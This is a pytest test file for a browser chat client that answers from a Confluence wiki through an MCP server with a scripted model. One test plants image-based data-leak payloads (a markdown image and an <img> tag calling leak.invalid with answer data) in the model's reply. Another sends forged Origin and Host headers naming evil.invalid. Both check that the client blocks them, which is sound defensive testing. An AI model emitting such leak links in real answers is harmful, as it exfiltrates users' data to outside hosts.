"""The chat in a browser, with a real MCP server and a scripted chat model."""

import shlex
import sys
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from tests.clients.conftest import WIKI, Chats, ChatTab, RunningChat
from tests.openai_endpoint import OpenAIEndpoint, ToolCall, bad_key, openai_endpoint

FORCED_IMAGE = """new Promise(done => {
    const image = new Image();
    image.onerror = done;
    image.src = 'https://leak.invalid/forced';
})"""
COMPLAINING = shlex.join([sys.executable, "-c", "raise SystemExit('no index here')"])
STDIO_WIKI = shlex.join([sys.executable, str(WIKI)])


@pytest.fixture(scope="module")
def endpoint() -> Iterator[OpenAIEndpoint]:
    with openai_endpoint() as endpoint:
        yield endpoint


@pytest.fixture(scope="module")
def chat(chats: Chats, endpoint: OpenAIEndpoint) -> Iterator[RunningChat]:
    variables = {
        "OPENAI_BASE_URL": endpoint.url,
        "OPENAI_API_KEY": "test-key",
        "CHAT_MODEL": "scripted",
        "CONFLUENCE_MCP_COMMAND": STDIO_WIKI,
    }
    with chats(variables) as chat:
        yield chat


def looks_up_then_says(*calls: ToolCall, text: str) -> Any:
    """A model that makes these calls, one in each round, and then answers."""

    def reply(messages: list[dict[str, Any]], tools: list[dict[str, Any]]) -> Any:
        made = 0
        for message in reversed(messages):
            if message["role"] == "user":
                break
            made += message["role"] == "tool"
        return [calls[made]] if made < len(calls) else text

    return reply


def test_an_answer_shows_its_look_up_and_opens_its_source(
    chat: RunningChat, endpoint: OpenAIEndpoint, tab: ChatTab
) -> None:
    search = ToolCall("search_confluence", {"query": "vacation carry-over"})
    endpoint.reply = looks_up_then_says(search, text="Five days carry over [1].")
    tab.open(chat)

    answer = tab.ask("How many vacation days can I carry over?")

    assert tab.steps() == ["Searching for “vacation carry-over”: 2 passages"]
    assert answer.startswith("Five days carry over")
    assert "Vacation › Days › Carry-over" in answer
    source = tab.source("[1]")
    assert "Up to five days carry over" in source.inner_text()
    assert "(2026-03-02)" in source.inner_text()
    link = source.get_by_role("link", name="Open in Confluence")
    assert link.get_attribute("href") == "https://wiki.invalid/pages/101#carry-over"
    assert endpoint.requests[-1].body["stream"] is True
    assert tab.left == []


def test_numbers_stay_the_same_from_question_to_question(
    chat: RunningChat, endpoint: OpenAIEndpoint, tab: ChatTab
) -> None:
    tab.open(chat)
    endpoint.reply = looks_up_then_says(
        ToolCall("search_confluence", {"query": "on call"}), text="It changes on Monday [2]."
    )
    tab.ask("When does the rota change?")
    endpoint.reply = looks_up_then_says(
        ToolCall("get_page", {"page": "102"}),
        ToolCall("answer_question", {"question": "vacation"}),
        text="Ada keeps the rota [3], and as said it changes on Monday [2].",
    )

    tab.ask("Who keeps it?")

    assert tab.steps()[1:] == [
        "Read “On-call handbook”",
        "Looking for the answer to “vacation”: 1 quote",
    ]
    assert "Ada keeps it." in tab.source("[3]").inner_text()
    assert "The rota changes every Monday." in tab.source("[2]").inner_text()


def test_page_text_makes_the_browser_load_nothing_from_elsewhere(
    chat: RunningChat, endpoint: OpenAIEndpoint, tab: ChatTab
) -> None:
    leak = "![secret](https://leak.invalid/answer?days=5) <img src='https://leak.invalid/raw'>"
    endpoint.reply = looks_up_then_says(
        ToolCall("search_confluence", {"query": "trap"}), text=f"See [1]. {leak}"
    )
    tab.open(chat)

    tab.ask("What does the trap say?")
    shown = tab.source("[1]").inner_text()
    tab.page.locator("[id^='step-']").first.click()
    tab.page.evaluate(FORCED_IMAGE)

    assert "https://leak.invalid/excerpt" in shown
    assert tab.page.locator("img[src*='leak.invalid']").count() == 0
    assert tab.left == []


def test_a_failed_tool_is_shown_and_told_to_the_model(
    chat: RunningChat, endpoint: OpenAIEndpoint, tab: ChatTab
) -> None:
    endpoint.reply = looks_up_then_says(
        ToolCall("search_confluence", {"query": "broken"}), text="I could not search."
    )
    tab.open(chat)

    answer = tab.ask("Is it broken?")

    told = endpoint.requests[-1].body["messages"][-1]["content"]
    assert "The index is empty. Run `confluence-mcp ingest` first." in told
    assert answer.startswith("I could not search.")


def test_a_refused_key_is_explained(
    chat: RunningChat, endpoint: OpenAIEndpoint, tab: ChatTab
) -> None:
    endpoint.fail(bad_key())
    tab.open(chat)

    answer = tab.ask("Hello?")

    assert "refused the key. Check OPENAI_API_KEY." in answer
    assert "test-key" not in answer


def test_a_server_that_died_is_started_again(
    chat: RunningChat, endpoint: OpenAIEndpoint, tab: ChatTab
) -> None:
    tab.open(chat)
    endpoint.reply = looks_up_then_says(
        ToolCall("search_confluence", {"query": "crash"}), text="Never said."
    )
    first = tab.ask("Can you crash?")
    endpoint.reply = looks_up_then_says(
        ToolCall("search_confluence", {"query": "vacation"}), text="Five days [1]."
    )

    second = tab.ask("And now?")

    assert "Ask again" in first
    assert second.startswith("Five days")


def test_a_page_of_another_site_is_refused(chat: RunningChat) -> None:
    socket = f"{chat.url}/ws/socket.io/?EIO=4&transport=polling"

    foreign = httpx.get(socket, headers={"Origin": "https://evil.invalid"}, trust_env=False)
    rebound = httpx.get(chat.url, headers={"Host": "evil.invalid"}, trust_env=False)
    own = httpx.get(socket, headers={"Origin": chat.url}, trust_env=False)

    assert (foreign.status_code, rebound.status_code, own.status_code) == (403, 403, 200)


def test_the_folder_of_its_user_stays_clean(chat: RunningChat) -> None:
    assert list(chat.folder.iterdir()) == []


def test_without_a_model_the_passages_are_shown(chats: Chats, wiki_url: str, tab: ChatTab) -> None:
    with chats({"CONFLUENCE_MCP_URL": wiki_url}) as chat:
        tab.open(chat)

        answer = tab.ask("vacation carry-over")

        assert tab.steps() == ["Searching for “vacation carry-over”: 2 passages"]
        assert "Up to five days carry over until the end of March." in answer
        assert "On-call handbook › Rota" in answer
        assert "OPENAI_API_KEY" in answer
        assert "The rota changes every Monday." in tab.source("[2]").inner_text()
        assert "Nothing in the wiki matches" in tab.ask("nothing")
        assert "Run confluence-mcp ingest first." in tab.ask("broken")
        assert tab.left == []


@pytest.mark.parametrize(
    ("variables", "said"),
    [
        ({"CONFLUENCE_MCP_URL": "http://127.0.0.1:9/mcp"}, "cannot be reached"),
        ({"CONFLUENCE_MCP_COMMAND": "no-such-program serve"}, "there is no program"),
        ({"CONFLUENCE_MCP_COMMAND": COMPLAINING}, "no index here"),
    ],
)
def test_a_server_that_cannot_be_used_is_explained(
    chats: Chats, tab: ChatTab, variables: dict[str, str], said: str
) -> None:
    with chats(variables) as chat:
        tab.open(chat)
        first = tab.page.locator("[data-step-type=assistant_message]").inner_text()

        answer = tab.ask("vacation")

        assert first.startswith("The wiki cannot be reached")
        for text in (first, answer):
            assert said in text
            assert next(iter(variables)) in text
            assert "Traceback" not in text
